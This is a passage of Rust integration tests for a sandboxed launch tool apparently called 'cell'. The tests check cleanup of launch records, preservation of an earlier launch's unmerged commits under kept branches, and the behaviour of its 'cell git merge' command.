    assert!(pids(&after_three).is_disjoint(&pids(&after_one)), "{after_one:?} {after_three:?}");
    // Nothing of an ended launch is left where running launches are recorded.
    let launches = state.parent().expect("state").join("launches");
    let left: Vec<_> =
        std::fs::read_dir(&launches).map(|d| d.flatten().map(|e| e.file_name()).collect()).unwrap_or_default();
    assert!(left.is_empty(), "{left:?}");
    let live: Vec<_> = std::fs::read_dir(h.path("run/cell/live"))
        .map(|d| d.flatten().map(|e| e.file_name()).collect())
        .unwrap_or_default();
    assert!(live.is_empty(), "{live:?}");
});

both!(an_earlier_launchs_unmerged_branch_is_kept_when_a_later_one_replaces_it, |h| {
    // Two launches that each start from the host's main: the second's main does not contain
    // the first's commit, which would be lost to the reflog if its branch were just moved.
    repo(h);
    let tip = |o: &Output| ok(o).lines().last().expect("a commit").trim().to_owned();
    let first = tip(&cell_sh(h, "echo one > a1; git add a1; git commit -qm first-launch; git rev-parse HEAD"));
    assert_eq!(git(h, &["rev-parse", "cell/default/main"]).trim(), first);
    std::fs::remove_file(h.work.join("a1")).expect("rm");
    let o = cell_sh(h, "echo two > b1; git add b1; git commit -qm second-launch; git rev-parse HEAD");
    let second = tip(&o);
    assert_eq!(git(h, &["rev-parse", "cell/default/main"]).trim(), second, "{}", show(&o));
    let kept = format!("cell-kept/default/main-{}", &first[..12]);
    assert_eq!(git(h, &["rev-parse", &kept]).trim(), first, "the first launch's commit was not kept: {}", show(&o));
    assert!(stderr_has(&o, &format!("kept as {kept}")), "not said: {}", show(&o));
    // Once your main has the cell's work, a launch that builds on it keeps nothing.
    git(h, &["reset", "-q", "--hard", &second]);
    let o = cell_sh(h, "echo three > c1; git add c1; git commit -qm third-launch; git rev-parse HEAD");
    assert_eq!(git(h, &["rev-parse", "cell/default/main"]).trim(), tip(&o));
    assert!(!stderr_has(&o, "kept as"), "{}", show(&o));
    let kept_refs = git(h, &["branch", "--list", "cell-kept/*"]);
    assert_eq!(kept_refs.lines().count(), 1, "{kept_refs}");
});

both!(cell_git_merge_takes_the_cells_branch_whose_files_are_already_there, |h| {
    // The worktree is shared: after the cell, it holds the cell's files, which a plain
    // `git merge` refuses as local changes. `cell git merge` moves the branch and the index.
    repo(h);
    let o = cell_sh(h, "echo changed > f1; echo new > n1; git add f1 n1; git commit -qm inside; echo wip > w1");
    let theirs = git(h, &["rev-parse", "cell/default/main"]);
    assert!(stderr_has(&o, "merge: cell git merge"), "{}", show(&o));
    let plain = git_in(h, &h.work, &["merge", "--ff-only", "cell/default/main"]);
    assert!(!plain.status.success(), "a plain merge took it: {}", show(&plain));
    let m = ok(&h.run(["git", "merge"]));
    assert!(m.contains("main is now cell/default/main"), "{m}");
    assert_eq!(git(h, &["rev-parse", "main"]), theirs);
    // Only the cell's uncommitted file differs from its commit; nothing was lost.
    assert_eq!(git(h, &["status", "--porcelain", "--untracked-files=all"]).trim(), "?? w1");
    assert_eq!(std::fs::read_to_string(h.work.join("f1")).expect("f1"), "changed\n");
    assert!(ok(&h.run(["git", "merge"])).contains("already has everything"));
    // Diverged: said, nothing moved.
    let o = cell_sh(h, "echo cell > c2; git add c2; git commit -qm cell-side");
    ok(&o);
    std::fs::remove_file(h.work.join("c2")).expect("rm");
    std::fs::write(h.work.join("h2"), "host\n").expect("write");
    h.chown_all();
    git(h, &["add", "h2"]);
    git(h, &["commit", "-qm", "host-side"]);
    let before = git(h, &["rev-parse", "main"]);
    let d = h.run(["git", "merge"]);
    assert_eq!(d.status.code(), Some(1), "{}", show(&d));
    assert!(stdout(&d).contains("both have commits of their own"), "{}", show(&d));
    assert_eq!(git(h, &["rev-parse", "main"]), before);
    // Outside a repository: a usage error that says so.
    let out = h.cell().current_dir(h.path("")).args(["git", "log"]).output().expect("run");
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
    assert!(stderr(&out).contains("is not in a git repository"), "{}", show(&out));
});
